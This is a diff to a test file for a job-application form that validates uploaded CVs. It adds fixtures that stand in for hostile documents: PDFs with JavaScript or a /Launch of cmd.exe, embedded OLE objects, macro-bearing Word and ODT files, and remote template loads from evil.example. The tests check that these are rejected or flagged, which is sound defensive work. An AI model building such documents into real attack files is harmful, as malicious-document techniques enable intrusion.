@@ -3,6 +3,7 @@ import { expect, test } from 'vitest';
 import { handleApplicationForm } from '../../netlify/forms/handle-application-form.ts';
 import type { Message } from '../../netlify/mail/message.ts';
 import { anOpenRole, content } from '../content.ts';
+import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';
 
 const { fields, problems, responses, thanks } = content.applicationForm;
 const role = anOpenRole();
@@ -17,9 +18,7 @@ const good = {
 };
 
 const PDF = Buffer.from('%PDF-1.7\n');
-/** An OLE compound file, the format of older Office programs; `WordDocument` is in Word files only. */
-const COMPOUND = Buffer.from('d0cf11e0a1b11ae1', 'hex');
-const DOC = Buffer.concat([COMPOUND, Buffer.alloc(1024), Buffer.from('WordDocument', 'utf16le')]);
+const DOC = compoundFile('WordDocument', '1Table');
 
 function form(fields: object, cv?: File): Request {
   const body = new FormData();
@@ -92,7 +91,16 @@ test.each([
 test.each([
   ['a program', Buffer.from('MZ\u0000\u0000')],
   ['an HTML page', Buffer.from('<!doctype html><script>alert(1)</script>')],
-  ['a spreadsheet in the older Office format', Buffer.concat([COMPOUND, Buffer.alloc(1024)])],
+  ['a page before a PDF', Buffer.from('<html></html>%PDF-1.7\n')],
+  ['a spreadsheet in the older Office format', compoundFile('Workbook')],
+  [
+    'such a spreadsheet with the word in a cell',
+    Buffer.concat([compoundFile('Workbook'), Buffer.from('WordDocument', 'utf16le')]),
+  ],
+  ['a DOCX with two lists of content types', docx({ '[CONTENT_TYPES].XML': 'x' })],
+  ['a DOCX cut off in the middle', docx().subarray(0, -30)],
+  ['an OpenDocument spreadsheet', odt('spreadsheet')],
+  ['a GIF', Buffer.from('GIF89a')],
   ['empty', Buffer.alloc(0)],
 ])('a CV that is %s is rejected with what to choose instead', async (_what, bytes) => {
   const { status, words, message } = await send(form({}, new File([bytes], 'cv.pdf')));
@@ -100,6 +108,53 @@ test.each([
   expect(words).toContain(problems.cvType);
   expect(words).toContain(responses.back);
   expect(message).toBeUndefined();
+});
+
+const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+
+test.each([
+  ['DOC', compoundFile('WordDocument', 'Macros', 'VBA')],
+  ['DOCX', docx({ 'word/vbaProject.bin': 'x' })],
+  ['DOCM', docx({}, MACRO_TYPE)],
+  ['ODT', odt('text', { 'Basic/Standard/Module1.xml': 'x' })],
+])('a %s with macros is rejected with how to save it without', async (_format, bytes) => {
+  const { status, words } = await send(form({}, new File([bytes], 'cv.docx')));
+  expect(status).toBe(422);
+  expect(words).toContain(problems.cvMacros);
+});
+
+test.each([
+  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n/OpenAction [3 0 R /Fit] (HTML/CSS/JavaScript)')],
+  ['doc', DOC],
+  ['docx', docx({ 'word/media/photo.jpeg': 'x' })],
+  ['odt', odt('text')],
+  ['rtf', Buffer.from('{\\rtf1 Asha {\\pict\\pngblip 89504e47}}')],
+  ...Object.entries(PHOTOS),
+])('a plain %s is attached without a warning', async (extension, bytes) => {
+  const { message } = await send(form({}, new File([bytes], 'IMG_20261122')));
+  expect(message?.text).toContain(`CV: CV IMG_20261122.${extension}, attached\n`);
+});
+
+const relationship = (type: string, target: string) =>
+  docx({
+    'word/_rels/settings.xml.rels': `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
+  });
+
+test.each([
+  ['contains a script', Buffer.from('%PDF-1.7\n<< /S /J#61vaScript /JS (app.alert(1)) >>')],
+  ['starts another program', Buffer.from('%PDF-1.7\n<< /S/Launch /F (cmd.exe) >>')],
+  ['contains an embedded object', Buffer.from('{\\rtf1 {\\object{\\*\\objdata 0105}}}')],
+  ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
+  ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
+  ['loads a template', Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}')],
+  ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
+  ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
+  ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
+  ['', relationship('hyperlink', 'https://github.com/asha')],
+])('the mail says that a CV %s', async (warning, bytes) => {
+  const { message } = await send(form({}, new File([bytes], 'cv')));
+  const [, line] = /^CV: CV cv\.[a-z]+, attached(.*)$/m.exec(message?.text ?? '') ?? [];
+  expect(line).toMatch(warning ? `; it ${warning}` : /^$/);
 });
 
 test('a 3 MB CV is accepted, one byte more is rejected, and a huge body is not read to the end', async () => {
